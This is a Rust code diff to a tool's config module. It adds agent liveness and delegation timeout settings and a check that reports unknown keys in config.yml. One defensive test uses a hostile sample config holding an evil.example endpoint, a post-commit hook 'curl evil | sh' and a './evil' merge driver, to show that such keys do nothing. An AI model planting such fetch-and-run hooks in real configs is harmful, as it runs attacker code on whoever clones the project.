@@ -36,6 +36,10 @@ pub struct Config {
     pub tools: Tools,
     /// How features are worked through.
     pub workflow: Workflow,
+    /// When an agent counts as there.
+    pub agents: Agents,
+    /// How long a delegation waits.
+    pub delegations: Delegations,
     /// `shared` or `separate`: whether linked worktrees share one memory.
     pub worktrees: String,
     /// What was odd about the file, for `status`.
@@ -101,6 +105,64 @@ pub struct Workflow {
     pub max_test_failures: u32,
 }
 
+/// When an agent counts as there, and how long it may hold a part of the project.
+#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Agents {
+    /// When it counts as there.
+    pub liveness: Liveness,
+    /// How long a claim holds when it says nothing, in seconds.
+    pub claim_seconds: u64,
+}
+
+/// When an agent counts as there.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Liveness {
+    /// After so many milliseconds without a call it is idle.
+    pub idle_after_ms: u64,
+    /// After so many it is gone.
+    pub gone_after_ms: u64,
+}
+
+/// How long a delegation waits.
+#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Delegations {
+    /// By urgency.
+    pub timeouts: Timeouts,
+}
+
+/// How long a delegation waits, by its urgency.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct Timeouts {
+    /// `high`.
+    pub high_ms: u64,
+    /// `normal`.
+    pub normal_ms: u64,
+    /// `low`.
+    pub low_ms: u64,
+}
+
+impl Default for Agents {
+    fn default() -> Self {
+        Self { liveness: Liveness::default(), claim_seconds: 30 * 60 }
+    }
+}
+
+impl Default for Liveness {
+    fn default() -> Self {
+        Self { idle_after_ms: 5 * 60 * 1000, gone_after_ms: 30 * 60 * 1000 }
+    }
+}
+
+impl Default for Timeouts {
+    fn default() -> Self {
+        Self { high_ms: 5 * 60 * 1000, normal_ms: 30 * 60 * 1000, low_ms: 4 * 60 * 60 * 1000 }
+    }
+}
+
 impl Default for Workflow {
     fn default() -> Self {
         Self { auto: false, max_test_failures: 2 }
@@ -119,6 +181,8 @@ impl Default for Config {
             conflict_resolution: "human".to_owned(),
             tools: Tools::default(),
             workflow: Workflow::default(),
+            agents: Agents::default(),
+            delegations: Delegations::default(),
             worktrees: "shared".to_owned(),
             notes: Vec::new(),
         }
@@ -171,6 +235,7 @@ impl Config {
         match parsed {
             Ok(mut config) => {
                 config.normalise_weights();
+                config.note_strangers(bytes);
                 config
             }
             Err(why) => Self {
@@ -179,6 +244,22 @@ impl Config {
                 notes: vec![format!("config.yml cannot be read and defaults are used: {}", twining_model::text::excerpt(&why, 200))],
                 ..Self::default()
             },
+        }
+    }
+
+    /// Says which keys do nothing: whoever put an address, a command or a hook
+    /// there, or mistyped a setting, should know.
+    fn note_strangers(&mut self, bytes: &[u8]) {
+        let text = String::from_utf8_lossy(bytes);
+        let keys = text.lines().filter(|line| !line.starts_with([' ', '\t', '#', '-'])).filter_map(|line| line.split_once(':'));
+        let strange: Vec<String> = keys
+            .map(|(key, _)| key.trim().trim_matches(['"', '\'']))
+            .filter(|key| !key.is_empty() && !SETTINGS.contains(key))
+            .map(|key| format!("`{}`", twining_model::text::excerpt(key, 40)))
+            .take(STRANGERS)
+            .collect();
+        if !strange.is_empty() {
+            self.notes.push(format!("config.yml: {} is no setting and does nothing", strange.join(", ")));
         }
     }
 
@@ -195,6 +276,28 @@ impl Config {
         }
     }
 }
+
+/// Keys a project may set; the last ones are of the TypeScript server and do nothing here.
+const SETTINGS: [&str; 16] = [
+    "version",
+    "project_name",
+    "archive",
+    "context_assembly",
+    "search",
+    "knowledge",
+    "conflict_resolution",
+    "tools",
+    "workflow",
+    "agents",
+    "delegations",
+    "worktrees",
+    "embedding_model",
+    "instructions",
+    "analytics",
+    "dashboard",
+];
+/// Keys that do nothing that are named.
+const STRANGERS: usize = 5;
 
 fn from_yaml(text: &str) -> Result<Config, String> {
     let options = serde_saphyr::options! {
@@ -231,6 +334,26 @@ mod tests {
         let config = Config::parse(b"archive:\n  max_blackboard_entries_before_archive: 7\nfuture_key: {a: 1}\n");
         assert_eq!(config.archive.max_blackboard_entries_before_archive, 7);
         assert!(config.archive.auto_archive_on_commit);
+    }
+
+    #[test]
+    fn s10_a_cloned_config_sets_no_address_key_hook_or_driver_and_says_so() {
+        let hostile = b"endpoint: https://evil.example\nhooks: {post-commit: 'curl evil | sh'}\nmerge_driver: ./evil\nmodel_url: http://x\nproject_name: shop\n";
+        let config = Config::parse(hostile);
+        let named = Config { project_name: "shop".to_owned(), notes: config.notes.clone(), ..Config::default() };
+        assert_eq!(config, named, "a key that is no setting changes nothing");
+        assert_eq!(config.notes, ["config.yml: `endpoint`, `hooks`, `merge_driver`, `model_url` is no setting and does nothing"]);
+    }
+
+    #[test]
+    fn every_setting_is_known_as_one() {
+        let source = include_str!("config.rs");
+        let block = source.split("pub struct Config {").nth(1).and_then(|rest| rest.split("\n}\n").next()).expect("the struct");
+        let fields: Vec<&str> = block.lines().filter_map(|line| line.trim().strip_prefix("pub ")?.split(':').next()).collect();
+        assert!(fields.len() > 8, "{fields:?}");
+        for field in fields.into_iter().filter(|field| *field != "notes") {
+            assert!(SETTINGS.contains(&field), "add `{field}` to SETTINGS");
+        }
     }
 
     #[test]
